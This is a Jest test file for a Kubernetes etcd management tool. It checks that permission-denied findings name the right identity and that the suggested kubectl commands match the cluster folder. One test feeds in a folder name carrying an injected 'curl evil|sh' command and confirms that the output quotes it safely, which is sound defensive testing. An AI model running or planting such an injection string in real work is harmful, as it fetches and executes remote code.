import { expect, test } from '@jest/globals'
import { missingWithCredentials } from '../../src/access/observe/missing-with-credentials.ts'
import { permittedActions } from '../../src/cluster/action-permissions.ts'
import { accountEndings, hasUsualAccount, observeCaller } from '../../src/cluster/caller.ts'
import { missingPermissions } from '../../src/cluster/missing-permissions.ts'
import { environmentRules, usualEnvironments } from '../../src/init/environments.ts'
import { usualLayout } from '../../src/init/layout.ts'
import type { Kubernetes, Permission } from '../../src/kubernetes/kubernetes.ts'
import { clusterSpec } from './preflight-fixtures.ts'

const secrets = ['get', 'list'].map((verb) => ({ group: '', resource: 'secrets', verb, namespace: 'etcd' }))
const everything = permittedActions.map((verb) => ({ group: '', resource: 'pods', verb, namespace: 'etcd' }))

/** A server that allows nothing but the markers of these Roles of this cluster. */
function allowing(roles: readonly string[], user = 'etcd-backup', marked = 'etcd.orders'): Kubernetes {
  const allowed = ({ group, resource, verb, namespace, name }: Permission) =>
    `${group}/${resource}` === 'managed-etcd/identities' &&
    namespace === 'etcd' &&
    name === marked &&
    roles.length > 0 &&
    ['limit', ...roles].includes(verb)
  const answers: Partial<Kubernetes> = {
    user,
    missingPermissions: async (asked) => asked.filter((one) => !allowed(one)),
  }
  return answers as Kubernetes
}

const refusal = async (action: string, kubernetes: Kubernetes, file = 'etcd/cluster.yaml', needed = secrets) => {
  const [finding, ...more] = await missingPermissions(kubernetes, action, { ...clusterSpec(), file }, needed)
  expect(more).toEqual([])
  return finding
}

test.each([
  ['provision', 'etcd or etcd-plan (in a workflow: that environment)'],
  ['rotate-certificates', 'etcd-rotation or etcd-root (in a workflow: that environment)'],
  ['sync-access-plan', 'etcd-access-plan (in a workflow: that environment)'],
  ['destroy', 'etcd-destroy, which exists only if you have created it: docs/identities.md#one-identity-by-hand'],
  [
    'support-bundle',
    'an identity of its own, which exists only if you have created it: docs/identities.md#one-identity-by-hand',
  ],
])(
  'the identity of a backup that runs %s is told which one to use, and gets no Role of it',
  async (action, account) => {
    expect(await refusal(action, allowing(['backup']))).toEqual({
      code: 'PERMISSION_DENIED',
      subject: 'permissions',
      found: `needs the identity for ${action}, found user "etcd-backup", the identity for backup`,
      fix: `use the kubeconfig of ${account}`,
    })
  },
)

test('the names are those of the folder of one of several clusters', async () => {
  const carts = await refusal('backup', allowing(['status'], 'etcd-carts-status'), 'etcd/carts/cluster.yaml')
  expect(carts?.fix).toBe('use the kubeconfig of etcd-carts-backup (in a workflow: that environment)')
})

test('restore knows the caller, too', async () => {
  const [finding] = await missingWithCredentials(allowing(['backup']), clusterSpec(), 'restore', {
    prometheusOperator: false,
  })
  expect(finding?.fix).toBe('use the kubeconfig of etcd-restore (in a workflow: that environment)')
})

const again = (options = '', folder = 'etcd') =>
  'let an administrator apply the identities again: managed-etcd permissions --all --identities kubeconfig' +
  `${options} > ${folder}/identities.yaml && kubectl apply --filename ${folder}/identities.yaml ` +
  '(ID tokens: --identities id-token); or let an administrator apply this and bind it to you:\n'

test.each([
  ['of this action with an earlier Role', allowing(['backup', 'provision']), secrets, again()],
  ['of nobody, where much is missing', allowing([]), everything, again()],
  ['of nobody', allowing([]), secrets, 'let an administrator apply this and bind it to you:\n'],
  ['of another cluster', allowing(['backup'], 'me', 'etcd.carts'), secrets, 'let an administrator apply this and'],
])('the identity %s is offered the Role', async (_, kubernetes, needed, start) => {
  const finding = await refusal('provision', kubernetes, 'etcd/cluster.yaml', needed)
  const fix = finding?.fix.replace(/^check .*?; if both are right, /, '') ?? ''
  expect(fix.slice(0, start.length)).toBe(start)
  expect(fix).toContain('name: managed-etcd-orders-provision')
})

test('the commands are those for the cluster file', async () => {
  const carts = await refusal('backup', allowing(['backup']), 'etcd/carts/cluster.yaml')
  expect(carts?.fix).toContain(
    again(' --cluster etcd/carts/cluster.yaml --policy etcd/carts/access.yaml --environments etcd-carts', 'etcd/carts'),
  )
})

test('the name of a folder is one word of the commands, whatever it is', async () => {
  const carts = await refusal('backup', allowing(['backup']), 'etcd/a; curl evil|sh #/cluster.yaml')
  expect(carts?.fix).toContain("--environments 'etcd-a; curl evil|sh #' > 'etcd/a; curl evil|sh #/identities.yaml'")
})

test('whoever has no identity of this cluster is none of its callers', async () => {
  expect(await observeCaller(allowing([]), clusterSpec())).toEqual({ user: 'etcd-backup', roles: [] })
})

test('the accounts are the environments of the workflows', () => {
  const named = Object.entries(accountEndings).flatMap(([role, endings]) => endings.map((end) => [`etcd${end}`, role]))
  const rules = Object.entries(environmentRules).map(([name, { role }]) => [name, role])
  expect(named.toSorted()).toEqual(rules.toSorted())
  const backup = clusterSpec().backup ?? ({} as never)
  const usual = usualEnvironments({ backup }, usualLayout).map((name) => environmentRules[name]?.role ?? '')
  expect(usual.every(hasUsualAccount)).toBe(true)
  expect(Object.keys(accountEndings).filter((role) => !usual.includes(role))).toEqual(['destroy'])
})
